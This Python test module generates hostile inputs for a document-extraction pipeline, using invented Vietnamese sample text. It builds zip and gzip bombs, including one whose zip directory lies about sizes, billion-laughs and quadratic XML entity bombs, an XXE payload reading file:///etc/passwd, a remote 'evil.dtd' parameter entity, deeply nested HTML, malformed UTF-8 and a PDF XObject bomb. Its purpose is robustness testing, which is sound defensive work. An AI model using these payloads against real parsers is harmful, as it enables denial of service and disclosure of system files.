"""Generators of hostile inputs. All text is our own (tests/hostile/bai_mau.txt, invented
people and units); valid PDF/DOCX/HTML are built here so they can be truncated and mangled."""
from __future__ import annotations

import functools
import gzip
import html
import io
import random
import struct
import unicodedata
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent


@functools.cache
def sample_text() -> str:
    """A short invented news item with people, offices, units, awards, dates and references."""
    return (HERE / "bai_mau.txt").read_text(encoding="utf-8")


def paragraphs() -> list[str]:
    return [p for p in sample_text().split("\n\n") if p.strip()]


# -- valid documents ------------------------------------------------------------------------------
@functools.cache
def html_page() -> bytes:
    body = "\n".join(f"<p>{html.escape(p)}</p>" for p in paragraphs())
    return ("<!DOCTYPE html><html lang='vi'><head><meta charset='utf-8'><title>Sở Nội vụ tỉnh Đông Lâm tổng kết "
            "thi đua</title></head><body><nav><a href='/'>Trang chủ</a></nav><article><h1>Tổng kết công tác thi "
            f"đua, khen thưởng</h1>{body}</article><footer>Bản quyền thuộc Sở Nội vụ</footer></body></html>"
            ).encode("utf-8")


@functools.cache
def pdf_bytes() -> bytes:
    from tests.site.documents import text_pdf
    return text_pdf("Tổng kết thi đua Sở Nội vụ", paragraphs(), gap=8)


@functools.cache
def docx_bytes() -> bytes:
    from tests.site.documents import text_docx
    return text_docx("Tổng kết thi đua Sở Nội vụ", paragraphs())


def valid_documents() -> dict[str, bytes]:
    """name → bytes of one valid document per format."""
    return {"bai.txt": sample_text().encode("utf-8"), "bai.html": html_page(), "bai.pdf": pdf_bytes(),
            "bai.docx": docx_bytes()}


# -- broken documents -----------------------------------------------------------------------------
def truncated(data: bytes, fraction: float) -> bytes:
    return data[:max(1, int(len(data) * fraction))]


def mutate(data: bytes, flips: list[tuple[int, int]], cut: int | None = None, junk: bytes = b"") -> bytes:
    """Bytes with some positions overwritten, optionally cut at `cut` and followed by `junk`."""
    out = bytearray(data)
    for pos, value in flips:
        out[pos % len(out)] = value
    if cut is not None:
        out = out[:max(1, cut % (len(out) + 1))]
    return bytes(out) + junk


def docx_with(document_xml: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A valid DOCX whose word/document.xml is replaced (entity bombs, broken XML)."""
    src = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = document_xml if info.filename == "word/document.xml" else src.read(info)
            z.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


@functools.cache
def zip_bomb_docx(inflated: int = 64 * 1024 * 1024) -> bytes:
    """A DOCX whose document.xml inflates `inflated` bytes of zeros (about 1000:1)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"\0" * inflated)
    return buf.getvalue()


@functools.cache
def lying_zip_docx(real: int = 256 * 1024 * 1024, declared: int = 1024) -> bytes:
    """A zip bomb whose directory lies: document.xml declares `declared` bytes (with the CRC
    of its first `declared` bytes, so a capped read verifies) but its deflate stream inflates
    to `real` bytes. A zip directory is attacker-written; only streamed, capped reads are safe."""
    good = zipfile.ZipFile(io.BytesIO(docx_with(b"<w:document/>")))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in good.infolist():
            if info.filename != "word/document.xml":
                z.writestr(info.filename, good.read(info))
        with z.open("word/document.xml", "w", force_zip64=False) as w:
            chunk = b"<" + b"a" * (1024 * 1024 - 1)
            w.write(chunk)
            for _ in range(real // len(chunk) - 1):
                w.write(b"a" * len(chunk))
    data = buf.getvalue()
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/document.xml")
    honest = struct.pack("<III", info.CRC, info.compress_size, info.file_size)
    prefix = (b"<" + b"a" * (declared - 1))
    lie = struct.pack("<III", zlib.crc32(prefix), info.compress_size, declared)
    assert data.count(honest) == 2      # local header and central directory
    return data.replace(honest, lie)


def _all(data: bytearray, needle: bytes) -> list[int]:
    out, i = [], data.find(needle)
    while i != -1:
        out.append(i)
        i = data.find(needle, i + 1)
    return out


def many_members_docx(n: int = 6000) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for i in range(n):
            z.writestr(f"word/media/{i}.bin", b"x")
        z.writestr("word/document.xml", b"<w:document/>")
    return buf.getvalue()


def nested_html(depth: int = 20_000, tag: str = "div", closed: bool = True) -> bytes:
    inner = "<p>" + paragraphs()[1] + "</p>"
    body = f"<{tag}>" * depth + inner + (f"</{tag}>" * depth if closed else "")
    return f"<html><head><title>Trang lồng sâu</title></head><body>{body}</body></html>".encode("utf-8")


def big_html(size: int) -> bytes:
    """An HTML page of about `size` bytes of ordinary paragraphs."""
    para = ("<p>" + html.escape(paragraphs()[1]) + "</p>\n").encode("utf-8")
    head = "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Trang lớn</title></head><body>".encode()
    return head + para * max(1, (size - len(head)) // len(para)) + b"</body></html>"


# -- XML bombs --------------------------------------------------------------------------------------
def billion_laughs(root: str = "rss") -> bytes:
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'
                                     for i in range(1, 10)]
    return (f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n' + "\n".join(ents) + f"\n]>\n<{root} version=\"2.0\">"
            "<channel><title>&lol9;</title><item><link>https://dong-lam.example.vn/a.htm</link></item>"
            f"</channel></{root}>").encode()


def quadratic_blowup(root: str = "rss", size: int = 100_000, uses: int = 2_000) -> bytes:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY a "{"a" * size}">]>\n<{root} version="2.0">'
            f"<channel><title>{'&a;' * uses}</title></channel></{root}>").encode()


def external_entity(target: str = "file:///etc/passwd", root: str = "rss") -> bytes:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{target}">]>\n<{root} version="2.0">'
            "<channel><title>&xxe;</title><item><link>https://dong-lam.example.vn/&xxe;</link></item>"
            f"</channel></{root}>").encode()


def parameter_entity(target: str = "http://127.0.0.1:9/evil.dtd", root: str = "rss") -> bytes:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY % ext SYSTEM "{target}"> %ext;]>\n'
            f'<{root} version="2.0"><channel><title>x</title></channel></{root}>').encode()


def gzip_bomb(size: int) -> bytes:
    return gzip.compress(b"\0" * size, compresslevel=9)


# -- encodings and Unicode forms --------------------------------------------------------------------
INVALID_UTF8 = {
    "lone_continuation": b"\x80\x81\x82",
    "overlong_slash": b"\xc0\xaf",
    "surrogate": b"\xed\xa0\x80",
    "truncated_sequence": b"\xe1\xba",
    "above_max": b"\xf4\x90\x80\x80",
    "ff_fe": b"\xff\xfe\xfd",
}


def with_invalid_utf8(text: str, bad: bytes, every: int) -> bytes:
    """UTF-8 text with `bad` inserted after every `every`-th word."""
    words = text.encode("utf-8").split(b" ")
    return b" ".join(w + (bad if i % every == every - 1 else b"") for i, w in enumerate(words))


def mixed_forms(text: str, choices: list[bool]) -> str:
    """Words alternately NFC or NFD as `choices` says (cycled): a document pasted from two editors."""
    words = text.split(" ")
    return " ".join(unicodedata.normalize("NFD" if choices[i % len(choices)] else "NFC", w)
                    for i, w in enumerate(words))


def random_forms(text: str, seed: int) -> str:
    rng = random.Random(seed)
    return mixed_forms(text, [rng.random() < 0.5 for _ in range(97)])


# -- long lists ---------------------------------------------------------------------------------------
_SURNAMES = ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Phan", "Vũ", "Võ", "Đặng", "Bùi", "Đỗ", "Hồ", "Ngô", "Dương"]
_MIDDLE = ["Văn", "Thị", "Hữu", "Đức", "Minh", "Quốc", "Thanh", "Ngọc"]
_GIVEN = ["An", "Bình", "Cường", "Dũng", "Hải", "Khoa", "Lâm", "Nam", "Phúc", "Quang", "Sơn", "Tâm", "Vinh",
          "Yến", "Hà", "Lan", "Mai", "Nga", "Oanh", "Trang", "Thảo", "Tuấn", "Việt", "Xuân"]


def name_list(n: int) -> str:
    """An award annex naming `n` distinct invented people, one per line."""
    import itertools
    names = [" ".join(t) for t in itertools.product(_SURNAMES, _MIDDLE, _MIDDLE, _GIVEN) if t[1] != t[2]][:n]
    head = "Tặng Bằng khen của Chủ tịch UBND tỉnh Đông Lâm cho các cá nhân có tên sau:\n"
    return head + "\n".join(f"{i + 1}. Ông {nm}, Trưởng phòng Phòng Nội vụ huyện Tân Khê;" for i, nm in enumerate(names))


# -- inputs that are slow or big to parse (the extraction budget stops them) ----------------------
@functools.cache
def xobject_bomb_pdf(uses: int = 20_000, lines: int = 20) -> bytes:
    """A small PDF (~25 KB) whose one page draws the same Form XObject of `lines` text lines `uses`
    times: a text extractor walks the form on every use (20,000 uses: minutes, gigabytes of text)."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.ttfonts import TTFont
    from reportlab.pdfgen import canvas

    from tests.site.documents import _font_path
    pdfmetrics.registerFont(TTFont("DejaVuSans", _font_path()))
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, invariant=1, pageCompression=1)
    c.beginForm("lap")
    c.setFont("DejaVuSans", 9)
    for i in range(lines):
        c.drawString(40, 800 - 12 * i, paragraphs()[0][:60])
    c.endForm()
    for _ in range(uses):
        c.doForm("lap")
    c.showPage()
    c.save()
    return buf.getvalue()


def one_line_text(size: int) -> bytes:
    """`size` bytes of the sample's words on one line, without any sentence punctuation."""
    words = " ".join(sample_text().replace(".", " ").replace("\n", " ").split()).encode("utf-8")
    return (words + b" ") * (size // (len(words) + 1)) + words[:size % (len(words) + 1)]
